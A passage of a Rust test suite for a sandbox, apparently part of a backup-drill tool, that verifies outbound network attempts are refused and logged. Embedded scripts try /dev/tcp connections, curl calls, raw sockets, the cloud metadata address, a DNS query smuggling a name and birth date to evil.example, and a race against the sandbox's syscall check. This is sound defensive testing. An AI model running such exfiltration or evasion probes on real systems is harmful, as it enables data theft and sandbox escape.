//! Attempts to reach the outside: none gets out, each fails at once, and each is listed.
//!
//! Real programs try: bash, python3, curl. Run as root, the last test runs all the others once more as an ordinary user.

use std::net::{IpAddr, TcpListener, UdpSocket};
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use firedrill::domain::{ByteSize, DrillId, EgressProtocol, Period, ResourceLimits};
use firedrill::sandbox::{Afterwards, Attempts, CommandSpec, Kept, Sandbox, SandboxSpec, promises, provision};

use crate::drills::{Home, said};

struct Bench {
    home: tempfile::TempDir,
}

impl Bench {
    fn new() -> Bench {
        Bench { home: tempfile::tempdir().unwrap() }
    }
    fn spec(&self) -> SandboxSpec {
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let drill = format!("egress-{}-{}", std::process::id(), NEXT.fetch_add(1, Ordering::Relaxed));
        let limits = ResourceLimits {
            memory: ByteSize::mib(128),
            processes: 64,
            scratch_size: ByteSize::mib(16),
            time: Period::from_secs(120),
            ..ResourceLimits::default()
        };
        SandboxSpec { helper: helper(), ..SandboxSpec::new(DrillId(drill), limits, self.home.path().join("state")) }
    }
    async fn sandbox(&self) -> Sandbox {
        let sandbox = provision(&self.spec()).await.unwrap();
        assert_eq!(sandbox.hears_attempts(), Ok(()), "{:#?}", sandbox.facts());
        sandbox
    }
}

fn helper() -> PathBuf {
    std::env::var_os("FIREDRILL_TEST_HELPER").map_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_firedrill")), PathBuf::from)
}

fn sh(script: &str) -> CommandSpec {
    CommandSpec::new(["bash", "-c", script])
}

fn py(script: &str) -> CommandSpec {
    CommandSpec::new(["/usr/bin/python3", "-c", script])
}

/// What a command that must succeed prints.
async fn ask(sandbox: &Sandbox, command: CommandSpec) -> String {
    let exit = sandbox.run(&command).await.unwrap();
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).trim().to_owned();
    assert!(exit.success(), "{:?}: {} {}", exit.ended, text(&exit.stdout), text(&exit.stderr));
    text(&exit.stdout)
}

/// The end of a sandbox: what it tried, and that nothing of it is left.
async fn end(sandbox: Sandbox) -> Attempts {
    let attempts = sandbox.settle().await.expect("asked once");
    assert!(sandbox.settle().await.is_none());
    let disposal = sandbox.destroy().await;
    assert!(disposal.complete(), "{disposal:#?}");
    attempts
}

/// Each listed attempt as one line.
fn lines(attempts: &Attempts) -> Vec<String> {
    let line = |a: &firedrill::sandbox::Attempt| {
        let (to, port) =
            (a.what.destination.map(|d| d.to_string()).unwrap_or_default(), a.what.port.map(|p| p.to_string()).unwrap_or_default());
        format!("{} {to} {port} {} x{}", a.what.protocol.word(), a.what.name.as_deref().unwrap_or(""), a.times).replace("  ", " ")
    };
    attempts.list.iter().map(line).collect()
}

#[track_caller]
fn assert_has(attempts: &Attempts, protocol: EgressProtocol, destination: Option<&str>, port: Option<u16>) {
    let to: Option<IpAddr> = destination.map(|d| d.parse().unwrap());
    let found = attempts.list.iter().any(|a| a.what.protocol == protocol && a.what.destination == to && a.what.port == port);
    assert!(found, "{protocol:?} {destination:?} {port:?} is not among {:#?}", lines(attempts));
}

// ---- every way out -----------------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread")]
async fn every_way_out_is_refused_at_once_and_listed() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let began = Instant::now();
    let tried = ask(
        &sandbox,
        py(r#"
import errno, socket, struct
def attempt(what, f):
    try:
        f()
        print(what, "NO ERROR")
    except OSError as e:
        print(what, errno.errorcode.get(e.errno, e.errno))
S, D, R = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
def connect(family, kind, to): return lambda: socket.socket(family, kind).connect(to)
def send(family, to, data=b"x"): return lambda: socket.socket(family, D).sendto(data, to)
attempt("http", connect(socket.AF_INET, S, ("203.0.113.5", 80)))
attempt("smtp", connect(socket.AF_INET, S, ("203.0.113.6", 25)))
attempt("tcp6", connect(socket.AF_INET6, S, ("2001:db8::7", 443)))
attempt("mapped", connect(socket.AF_INET6, S, ("::ffff:203.0.113.8", 443)))
attempt("udp connect", connect(socket.AF_INET, D, ("203.0.113.9", 123)))
attempt("udp send", send(socket.AF_INET, ("203.0.113.10", 514)))
attempt("udp6 send", send(socket.AF_INET6, ("2001:db8::11", 514)))
attempt("sendmsg", lambda: socket.socket(socket.AF_INET, D).sendmsg([b"a", b"b"], [], 0, ("203.0.113.12", 9)))
attempt("broadcast", lambda: [s := socket.socket(socket.AF_INET, D), s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1), s.sendto(b"x", ("255.255.255.255", 67))])
attempt("multicast", send(socket.AF_INET, ("224.0.0.251", 5353)))
attempt("metadata", connect(socket.AF_INET, S, ("169.254.169.254", 80)))
attempt("fast open", lambda: socket.socket(socket.AF_INET, S).sendto(b"x", 0x20000000, ("203.0.113.13", 80)))
query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x05vault\x06clinic\x07example\0\0\x01\0\x01"
attempt("dns elsewhere", send(socket.AF_INET, ("203.0.113.14", 53), query))
attempt("raw", lambda: socket.socket(socket.AF_INET, R, socket.IPPROTO_RAW))
attempt("raw6", lambda: socket.socket(socket.AF_INET6, R, socket.IPPROTO_ICMPV6))
attempt("ping", lambda: socket.socket(socket.AF_INET, D, socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, R, socket.htons(3)))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, S))
attempt("sctp", lambda: socket.socket(socket.AF_INET, S, 132))
attempt("bluetooth", lambda: socket.socket(31, S, 3))
"#),
    )
    .await;
    let took = began.elapsed();
    assert!(took < Duration::from_secs(10), "attempts fail at once, not after {took:?}");
    let refused: Vec<&str> = tried.lines().collect();
    assert_eq!(refused.len(), 20, "{tried}");
    for line in &refused[..13] {
        assert!(line.ends_with("ENETUNREACH"), "{tried}");
    }
    for line in &refused[13..] {
        assert!(line.ends_with("EPERM"), "{tried}");
    }
    let attempts = end(sandbox).await;
    use EgressProtocol::{Icmp, Other, Packet, Raw, Tcp, Udp, Vsock};
    for (protocol, to, port) in [
        (Tcp, "203.0.113.5", 80),
        (Tcp, "203.0.113.6", 25),
        (Tcp, "2001:db8::7", 443),
        (Tcp, "203.0.113.8", 443),
        (Udp, "203.0.113.9", 123),
        (Udp, "203.0.113.10", 514),
        (Udp, "2001:db8::11", 514),
        (Udp, "203.0.113.12", 9),
        (Udp, "255.255.255.255", 67),
        (Udp, "224.0.0.251", 5353),
        (Tcp, "169.254.169.254", 80),
        (Tcp, "203.0.113.13", 80),
        (Udp, "203.0.113.14", 53),
    ] {
        assert_has(&attempts, protocol, Some(to), Some(port));
    }
    for protocol in [Raw, Icmp, Packet, Vsock, Other] {
        assert_has(&attempts, protocol, None, None);
    }
    assert!(lines(&attempts).contains(&"UDP 203.0.113.14 53 vault.clinic.example x1".to_owned()), "{:#?}", lines(&attempts));
    assert_eq!((attempts.total, attempts.counted_only, &attempts.gaps), (20, 0, &vec![]), "{:#?}", lines(&attempts));
    assert!(attempts.list.windows(2).all(|w| w[0].after <= w[1].after), "in the order of time");
    assert!(attempts.list.last().unwrap().after <= attempts.now && attempts.now.as_secs_f64() < 60.0);
    assert!(!format!("{attempts:?}").contains("clinic"), "names stay out of Debug");
}

#[tokio::test(flavor = "multi_thread")]
async fn names_are_refused_at_once_and_listed() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let began = Instant::now();
    let tried = ask(
        &sandbox,
        py(r#"
import socket, struct
for name in ("SMTP.clinic.example", "ehr-db", "localhost", "drill"):
    try:
        print(name, socket.getaddrinfo(name, 25, type=socket.SOCK_STREAM)[0][4][0])
    except socket.gaierror as e:
        print(name, "refused")
# what a stub resolver does when an answer was cut short, and one that asks by IPv6
query = lambda name: b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0\0\x0f\0\x01"
tcp = socket.create_connection(("127.0.0.1", 53)); q = query(b"by-tcp.example")
tcp.sendall(struct.pack(">H", len(q))[:1]); tcp.sendall(struct.pack(">H", len(q))[1:] + q)
length, = struct.unpack(">H", tcp.recv(2)); print("tcp", tcp.recv(length)[3] & 15)
udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); udp.sendto(query(b"by-six.example"), ("::1", 53)); print("udp6", udp.recv(512)[3] & 15)
tunnel = b".".join([b"JaneDoe", b"19700101", b"a" * 60, b"evil", b"example"])
udp.sendto(query(tunnel), ("::1", 53)); print("tunnel", udp.recv(512)[3] & 15)
udp.sendto(b"no question at all", ("::1", 53)); udp.sendto(query(b"still-there.example"), ("::1", 53)); print("after", udp.recv(512)[3] & 15)
"#),
    )
    .await;
    assert!(began.elapsed() < Duration::from_secs(5), "a name is refused at once, not after {:?}", began.elapsed());
    let expected = "SMTP.clinic.example refused\nehr-db refused\nlocalhost 127.0.0.1\ndrill 127.0.1.1\ntcp 5\nudp6 5\ntunnel 5\nafter 5";
    // "localhost" may be found as ::1 first
    assert_eq!(tried.replace("localhost ::1", "localhost 127.0.0.1"), expected);
    let attempts = end(sandbox).await;
    let names: Vec<&str> = attempts.list.iter().map(|a| a.what.name.as_deref().unwrap_or("")).collect();
    assert_eq!(names, ["smtp.clinic.example", "ehr-db", "by-tcp.example", "by-six.example", "*.evil.example", "still-there.example"]);
    assert!(attempts.list.iter().all(|a| a.what.protocol == EgressProtocol::Dns && a.what.destination.is_none()));
    assert!(attempts.counted_only == 0 && attempts.gaps.is_empty(), "{attempts:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_as_people_have_them_are_heard() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let script = r#"
        (exec 3<>/dev/tcp/203.0.113.20/8080) 2>/dev/null && echo OUT
        (echo x > /dev/udp/203.0.113.21/514) 2>/dev/null && echo OUT
        curl -s --max-time 20 http://203.0.113.22/ ; echo curl $?
        curl -s --max-time 20 http://www.clinic.example/ ; echo curl $?
        env -i PATH=$PATH getent hosts mail.clinic.example; echo getent $?
    "#;
    let began = Instant::now();
    // 7: could not connect; 6: could not resolve
    assert_eq!(ask(&sandbox, sh(script)).await, "curl 7\ncurl 6\ngetent 2");
    assert!(began.elapsed() < Duration::from_secs(10), "{:?}", began.elapsed());
    let attempts = end(sandbox).await;
    assert_has(&attempts, EgressProtocol::Tcp, Some("203.0.113.20"), Some(8080));
    assert_has(&attempts, EgressProtocol::Udp, Some("203.0.113.21"), Some(514));
    assert_has(&attempts, EgressProtocol::Tcp, Some("203.0.113.22"), Some(80));
    for name in ["www.clinic.example", "mail.clinic.example"] {
        assert!(attempts.list.iter().any(|a| a.what.name.as_deref() == Some(name)), "{:#?}", lines(&attempts));
    }
}

/// A listener on all of the host's addresses, by TCP and UDP, and what reached it.
struct Host {
    port: u16,
    reached: Arc<AtomicUsize>,
    stop: Arc<AtomicBool>,
    threads: Vec<std::thread::JoinHandle<()>>,
}

impl Host {
    fn listen() -> Host {
        let tcp = TcpListener::bind("[::]:0").unwrap();
        let port = tcp.local_addr().unwrap().port();
        let udp = UdpSocket::bind(("::", port)).unwrap();
        tcp.set_nonblocking(true).unwrap();
        udp.set_nonblocking(true).unwrap();
        let (reached, stop) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicBool::new(false)));
        let (count, end) = (Arc::clone(&reached), Arc::clone(&stop));
        let thread = std::thread::spawn(move || {
            while !end.load(Ordering::Relaxed) {
                let seen = usize::from(tcp.accept().is_ok()) + usize::from(udp.recv(&mut [0; 64]).is_ok());
                count.fetch_add(seen, Ordering::Relaxed);
                std::thread::sleep(Duration::from_millis(1));
            }
        });
        Host { port, reached, stop, threads: vec![thread] }
    }
    fn reached(&self) -> usize {
        std::thread::sleep(Duration::from_millis(100));
        self.reached.load(Ordering::Relaxed)
    }
}

impl Drop for Host {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        self.threads.drain(..).for_each(|t| t.join().unwrap());
    }
}

/// The host's own addresses, from its routing table.
fn host_addresses() -> Vec<String> {
    let trie = std::fs::read_to_string("/proc/net/fib_trie").unwrap();
    let lines: Vec<&str> = trie.lines().collect();
    let mut found: Vec<String> = lines
        .windows(2)
        .filter(|w| w[1].contains("/32 host LOCAL"))
        .filter_map(|w| Some(w[0].split("|-- ").nth(1)?.trim().to_owned()))
        .collect();
    found.extend(["127.0.0.1", "::1"].map(str::to_owned));
    found.sort();
    found.dedup();
    found
}

#[tokio::test(flavor = "multi_thread")]
async fn a_listener_on_the_host_hears_nothing() {
    let host = Host::listen();
    // the listener works: from outside of a sandbox it is reached
    std::net::TcpStream::connect(("127.0.0.1", host.port)).unwrap();
    UdpSocket::bind("127.0.0.1:0").unwrap().send_to(b"x", ("127.0.0.1", host.port)).unwrap();
    assert_eq!(host.reached(), 2);
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let (addresses, port) = (host_addresses(), host.port);
    let script = format!(
        r#"
import socket
for address in {addresses:?}:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        s = socket.socket(family, kind)
        try:
            s.connect((address, {port})); s.send(b"x"); s.send(b"x")
            print("OUT", address, kind)
        except OSError: pass
print("done")
"#
    );
    assert_eq!(ask(&sandbox, py(&script)).await, "done");
    let attempts = end(sandbox).await;
    assert_eq!(host.reached(), 2, "nothing more");
    for address in addresses.iter().filter(|a| !a.parse::<IpAddr>().unwrap().is_loopback()) {
        assert_has(&attempts, EgressProtocol::Tcp, Some(address), Some(port));
        assert_has(&attempts, EgressProtocol::Udp, Some(address), Some(port));
    }
}

// ---- what stays inside -------------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread")]
async fn servers_inside_work_and_are_no_attempts() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let talked = ask(
        &sandbox,
        py(r#"
import socket, struct, threading
def tcp(family, at, to):
    server = socket.socket(family); server.bind((at, 0)); server.listen()
    def serve():
        c, _ = server.accept(); c.sendall(c.recv(9)); c.close()
    t = threading.Thread(target=serve); t.start()
    c = socket.socket(family); c.connect((to, server.getsockname()[1])); c.sendmsg([b"he", b"llo"]); print("tcp", at, c.recv(9).decode()); t.join()
tcp(socket.AF_INET, "127.0.0.1", "127.0.0.1")
tcp(socket.AF_INET, "127.0.0.77", "127.0.0.77")
tcp(socket.AF_INET, "0.0.0.0", "0.0.0.0")
tcp(socket.AF_INET6, "::1", "::1")
tcp(socket.AF_INET6, "::", "::ffff:127.0.0.1")
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); server.bind(("127.0.0.1", 0)); to = server.getsockname()
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.sendto(b"one", to); c.sendmsg([b"two"], [], 0, to); c.connect(to); c.send(b"three"); c.sendmsg([b"four"])
print("udp", *(server.recv(9).decode() for _ in range(4)))
a, b = socket.socketpair(); socket.send_fds(a, [b"fd"], [1]); print("unix", socket.recv_fds(b, 9, 1)[0].decode())
u = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); u.bind("/tmp/u"); v = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); v.sendto(b"named", "/tmp/u"); print("unix", u.recv(9).decode())
n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE); n.bind((0, 0)); n.sendto(struct.pack("=IHHIIB3x", 20, 18, 0x301, 1, 0, 0), (0, 0)); print("netlink", b"lo" in n.recv(9999))
try: socket.create_connection(("127.0.0.1", 1))
except ConnectionRefusedError: print("refused")
try: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)
except PermissionError: print("alg")
"#),
    )
    .await;
    let expected = "tcp 127.0.0.1 hello\ntcp 127.0.0.77 hello\ntcp 0.0.0.0 hello\ntcp ::1 hello\ntcp :: hello\nudp one two three four\nunix fd\nunix named\nnetlink True\nrefused\nalg";
    assert_eq!(talked, expected);
    let attempts = end(sandbox).await;
    assert_eq!((attempts.total, &attempts.gaps), (0, &vec![]), "{:#?}", lines(&attempts));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_is_left_running_is_heard_until_the_end() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let mut server =
        sh("(while true; do (exec 3<>/dev/tcp/203.0.113.30/443) 2>/dev/null; echo x >> tried; sleep 0.02; done) & echo started");
    server.afterwards = Afterwards::LeaveRunning;
    assert_eq!(ask(&sandbox, server).await, "started");
    // with commands of their own listeners between, it is still answered
    for n in 0..3 {
        let mut other = sh(&format!("(exec 3<>/dev/tcp/203.0.113.31/{n}) 2>/dev/null; sleep 0.2; wc -l < tried"));
        other.afterwards = Afterwards::LeaveRunning;
        assert!(ask(&sandbox, other).await.parse::<u64>().unwrap() > 2 * n);
    }
    let attempts = end(sandbox).await;
    assert_has(&attempts, EgressProtocol::Tcp, Some("203.0.113.30"), Some(443));
    let of_server = attempts.list.iter().find(|a| a.what.port == Some(443)).unwrap();
    assert!(of_server.times > 6 && attempts.total == of_server.times + 3, "{:#?}", lines(&attempts));
}

// ---- attacks on the list -----------------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread")]
async fn ten_thousand_attempts_are_counted_and_a_hundred_listed() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let script = r#"
import socket
for n in range(10_000):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b"x", ("203.0.113.40", 1 + n % 5_000)); print("OUT")
    except OSError: pass
    s.close()
print("done")
"#;
    let began = Instant::now();
    assert_eq!(ask(&sandbox, py(script)).await, "done");
    assert!(began.elapsed() < Duration::from_secs(40), "{:?}", began.elapsed());
    let attempts = end(sandbox).await;
    assert_eq!((attempts.total, attempts.list.len(), attempts.counted_only), (10_000, 100, 0));
    assert!(attempts.list.iter().all(|a| a.times == 2) && attempts.list[0].what.port == Some(1));
}

/// One process exchanges the address while another one connects to it: what the look at it missed, the kernel counted.
#[tokio::test(flavor = "multi_thread")]
async fn an_address_that_changes_under_our_eyes_is_counted() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let script = r#"
import ctypes, errno, mmap, os, signal, socket, struct
libc = ctypes.CDLL(None, use_errno=True)
shared = mmap.mmap(-1, 4096)
inside = struct.pack("=HH4s8x", socket.AF_INET, 0x901f, socket.inet_aton("127.0.0.1"))
outside = struct.pack("=HH4s8x", socket.AF_INET, 0x901f, socket.inet_aton("203.0.113.50"))
shared[:16] = inside
child = os.fork()
if child == 0:
    while True:
        shared[4:8] = outside[4:8]
        shared[4:8] = inside[4:8]
at = ctypes.addressof(ctypes.c_char.from_buffer(shared))
refused = 0
for n in range(4_000):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if libc.connect(s.fileno(), ctypes.c_void_p(at), 16) != 0:
        assert ctypes.get_errno() == errno.ENETUNREACH, ctypes.get_errno()
        refused += 1
    elif s.getpeername()[0] != "127.0.0.1": print("OUT", s.getpeername())
    s.close()
os.kill(child, signal.SIGKILL)
print(refused)
"#;
    let refused: u64 = ask(&sandbox, py(script)).await.parse().unwrap();
    let attempts = end(sandbox).await;
    assert!(attempts.counted_only > 0 && refused > attempts.counted_only, "the race was run: {refused}, {}", attempts.counted_only);
    assert_eq!(attempts.total, refused, "each refusal is listed or counted: {:#?}", lines(&attempts));
}

#[tokio::test(flavor = "multi_thread")]
async fn threads_signals_forks_and_bad_pointers_do_not_mislead_it() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let script = r#"
import ctypes, errno, os, signal, socket, threading
def attempt(port):
    try: socket.socket().connect(("203.0.113.70", port)); print("OUT")
    except OSError as e: assert e.errno == errno.ENETUNREACH, e
threads = [threading.Thread(target=lambda: [attempt(1000) for _ in range(100)]) for _ in range(8)]
[t.start() for t in threads]; [t.join() for t in threads]
# restarted where one comes before anybody looked; after that, only death interrupts (Linux 5.19)
signal.signal(signal.SIGALRM, lambda *_: None); signal.siginterrupt(signal.SIGALRM, False); signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
for _ in range(200): attempt(1001)
signal.setitimer(signal.ITIMER_REAL, 0)
for _ in range(20):
    if os.fork() == 0: attempt(1002); os._exit(0)
while True:
    try: os.wait()
    except ChildProcessError: break
# a process that hides its memory from its own kind does not hide it from the kernel's question
libc = ctypes.CDLL(None, use_errno=True); libc.prctl(4, 0); attempt(1003)
s = socket.socket()
for at, size in ((1, 16), (0, 16), (2**47 - 4096, 16), (1, 2**31)):
    assert libc.connect(s.fileno(), ctypes.c_void_p(at), ctypes.c_uint(size)) == -1
assert libc.sendmsg(s.fileno(), ctypes.c_void_p(1), 0) == -1 and libc.sendmmsg(s.fileno(), ctypes.c_void_p(1), 2000, 0) == -1
# no such descriptor, no socket, and a socket of another kind
address = ctypes.create_string_buffer(b"\x02\0\0\x50\xcb\0\x71\x47" + bytes(8))
for fd in (-1, 999, 0, socket.socketpair()[0].fileno()):
    assert libc.connect(fd, address, 16) == -1
print("done")
"#;
    assert_eq!(ask(&sandbox, py(script)).await, "done");
    let attempts = end(sandbox).await;
    let times = |port| attempts.list.iter().find(|a| a.what.port == Some(port)).map_or(0, |a| a.times);
    assert_eq!([1000, 1001, 1002, 1003].map(times), [800, 200, 20, 1], "{:#?}", lines(&attempts));
    assert_eq!((attempts.total, &attempts.gaps), (1_021, &vec![]), "{:#?}", lines(&attempts));
}

/// Connections that never ask, questions that never end, and ten thousand names: somebody else is still answered.
#[tokio::test(flavor = "multi_thread")]
async fn who_floods_the_names_gets_no_silence_for_others() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let script = r#"
import socket
held = []
for n in range(200):
    s = socket.create_connection(("127.0.0.1", 53), timeout=5); s.sendall(b"\xff\xff" if n % 2 else b"\0"); held.append(s)
query = lambda name: b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + b"".join(bytes([len(l)]) + l for l in name.split(b".")) + b"\0\0\x01\0\x01"
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.settimeout(5); udp.connect(("127.0.0.1", 53))
for n in range(10_000):
    udp.send(query(b"n%d.example" % n)); assert udp.recv(512)[3] & 15 == 5
tcp = socket.create_connection(("127.0.0.1", 53), timeout=5); q = query(b"last.example"); tcp.sendall(len(q).to_bytes(2, "big") + q)
print(tcp.recv(512)[5] & 15)
"#;
    assert_eq!(ask(&sandbox, py(script)).await, "5");
    let attempts = end(sandbox).await;
    assert_eq!((attempts.total, attempts.list.len(), &attempts.gaps), (10_001, 100, &vec![]));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_that_was_given_up_or_took_too_long_is_heard_as_well() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let mut slow = sh("(exec 3<>/dev/tcp/203.0.113.80/1) 2>/dev/null; exec sleep 60");
    slow.timeout = Duration::from_millis(500);
    assert!(sandbox.run(&slow).await.is_err());
    let given_up = sh("(exec 3<>/dev/tcp/203.0.113.80/2) 2>/dev/null; exec sleep 60");
    assert!(tokio::time::timeout(Duration::from_millis(500), sandbox.run(&given_up)).await.is_err());
    assert_eq!(ask(&sandbox, sh("(exec 3<>/dev/tcp/203.0.113.80/3) 2>/dev/null; echo on")).await, "on");
    let attempts = end(sandbox).await;
    let ports: Vec<_> = attempts.list.iter().map(|a| a.what.port.unwrap()).collect();
    assert_eq!(ports, [1, 2, 3]);
}

#[tokio::test(flavor = "multi_thread")]
async fn after_it_was_settled_a_sandbox_is_silent() {
    let bench = Bench::new();
    let sandbox = bench.sandbox().await;
    let mut server = sh("(while true; do sleep 1; done) & true");
    server.afterwards = Afterwards::LeaveRunning;
    ask(&sandbox, server).await;
    assert_eq!(sandbox.settle().await.unwrap().total, 0);
    // a command that runs nevertheless gets no answer to wait for, and no way out
    let exit = sandbox.run(&sh("(exec 3<>/dev/tcp/203.0.113.90/1) 2>/dev/null && echo OUT; ps ax 2>/dev/null | grep -c '[s]leep'")).await;
    if let Ok(exit) = exit {
        assert_eq!(String::from_utf8_lossy(&exit.stdout).trim(), "0", "nothing is left, nothing got out");
    }
    assert!(sandbox.destroy().await.complete());
}

// ---- whole drills ------------------------------------------------------------------------------------------------------

/// A restored application that wakes up and calls home: HTTP, SMTP, a name, a raw socket.
const APPLICATION: &str = r#"#!/usr/bin/python3
import socket
for attempt in (
    lambda: socket.create_connection(("203.0.113.100", 80)),
    lambda: socket.create_connection(("203.0.113.100", 25)),
    lambda: socket.create_connection(("203.0.113.100", 25)),
    lambda: socket.create_connection(("updates.vendor.example", 443)),
    lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
):
    try: attempt(); print("OUT")
    except OSError: pass
print("ready")
"#;

const CHECK: &str = r#"
[[check]]
kind = "command"
name = "the application starts"
command = ["/usr/bin/python3", "app.py"]
stdout = '^ready\s*$'
"#;

/// A home with a backup of the application.
fn home_with_application() -> Home {
    let home = Home::new();
    home.tree();
    home.write("tree/app.py", APPLICATION);
    let name = format!("backups/{}", home.bare_name(1));
    home.shell(&format!("tar --format=posix -C tree -cf - . | zstd -q | age -r $RECIPIENT > {name}"));
    home
}

#[test]
fn what_a_restored_application_tried_stands_in_the_report_and_warns() {
    let home = home_with_application();
    let drilled = home.drill(&home.scenario(CHECK)).ends("PASSED");
    drilled.left_nothing();
    let finding = drilled.warns("egress_attempted");
    assert_eq!(finding["cause"], "backup", "{finding:#}");
    let egress = &drilled.report["egress"];
    assert_eq!(
        (egress["policy"].as_str(), &egress["gaps"], &egress["counted_only"]),
        (Some("record"), &serde_json::json!([]), &serde_json::json!(0))
    );
    let attempts = egress["attempts"].as_array().unwrap();
    let seen: Vec<(&str, &str, u64, &str)> = attempts
        .iter()
        .map(|a| {
            let text = |key: &str| a[key].as_str().unwrap_or("");
            (text("protocol"), text("destination"), a["port"].as_u64().unwrap_or(0), text("name"))
        })
        .collect();
    let expected =
        [("tcp", "203.0.113.100", 80, ""), ("tcp", "203.0.113.100", 25, ""), ("dns", "", 0, "updates.vendor.example"), ("raw", "", 0, "")];
    assert_eq!(seen, expected);
    let times: Vec<u64> = attempts.iter().map(|a| a["times"].as_u64().unwrap()).collect();
    assert_eq!((times[0], times[1], times[3]), (1, 2, 1));
    assert_eq!(egress["total"].as_u64().unwrap(), times.iter().sum::<u64>());
    // each is dated within the check that it was made in
    let at =
        |name: &str| drilled.report["timeline"].as_array().unwrap().iter().find(|p| p["phase"] == name).unwrap()["began"].as_u64().unwrap();
    for attempt in attempts {
        let elapsed = attempt["elapsed"].as_u64().unwrap();
        assert!(at("verify") < elapsed && elapsed < at("teardown"), "{attempt:#}");
        let (first, started) = (attempt["first_at"].as_str().unwrap(), drilled.report["started_at"].as_str().unwrap());
        assert!(first > started && first < drilled.report["finished_at"].as_str().unwrap(), "{attempt:#}");
    }
    let page = std::fs::read_to_string(drilled.evidence.join("report.html")).unwrap();
    for words in ["TCP to 203.0.113.100 port 25, 2 times", "DNS asking for updates.vendor.example", "raw IP"] {
        assert!(page.contains(words), "{words}");
    }
    assert!(drilled.said.stdout.contains("to reach something outside"), "{}", drilled.said.stdout);
}

#[test]
fn an_attempt_fails_a_drill_that_forbids_it_and_none_does_not() {
    let home = home_with_application();
    let forbid = "[sandbox]\negress = \"forbid\"\n";
    let drilled = home.drill(&home.scenario(&format!("{forbid}{CHECK}"))).ends("FAILED");
    drilled.blames_backup("egress_attempted", &[("first", "TCP to 203.0.113.100 port 80")]);
    assert!(
        drilled.report["checks"].as_array().unwrap().iter().all(|c| c["outcome"] == "passed"),
        "it alone failed the drill: {:#}",
        drilled.report["checks"]
    );
    home.write("tree/app.py", "print('ready')\n");
    let name = format!("backups/{}", home.bare_name(1));
    home.shell(&format!("tar --format=posix -C tree -cf - . | zstd -q | age -r $RECIPIENT > {name}"));
    let drilled = home.drill(&home.scenario(&format!("{forbid}{CHECK}"))).ends("PASSED");
    assert_eq!((&drilled.report["egress"]["total"], drilled.findings()), (&serde_json::json!(0), vec![]));
    assert!(drilled.said.stdout.contains("nothing inside tried"), "{}", drilled.said.stdout);
}

/// What runs `command` so that somebody else already asks about its system calls: as in a container whose runtime does.
fn deafened(mut command: Command) -> Command {
    let in_child = || {
        // one rule: this call, which nobody makes, is asked about
        let step = |code, jt, jf, k| libc::sock_filter { code, jt, jf, k };
        let mut program = [
            step(0x20, 0, 0, 0),
            step(0x15, 0, 1, libc::SYS_lookup_dcookie as u32),
            step(0x06, 0, 0, libc::SECCOMP_RET_USER_NOTIF),
            step(0x06, 0, 0, libc::SECCOMP_RET_ALLOW),
        ];
        let order = libc::sock_fprog { len: program.len() as u16, filter: program.as_mut_ptr() };
        // SAFETY: plain calls; the program lives until after them. The descriptor is left open on purpose.
        unsafe {
            libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
            let fd = libc::syscall(libc::SYS_seccomp, libc::SECCOMP_SET_MODE_FILTER, libc::SECCOMP_FILTER_FLAG_NEW_LISTENER, &order);
            if fd < 0 || libc::fcntl(fd as i32, libc::F_SETFD, 0) != 0 {
                return Err(std::io::Error::last_os_error());
            }
        }
        Ok(())
    };
    // SAFETY: system calls only.
    unsafe { command.pre_exec(in_child) };
    command
}

#[test]
fn where_attempts_cannot_be_heard_a_ban_is_refused_and_else_the_report_says_so() {
    let home = home_with_application();
    let run = |overlay: &str| {
        let scenario = home.scenario(overlay);
        home.drilled(said(deafened(home.command(&["run", scenario.to_str().unwrap()])).output().unwrap()))
    };
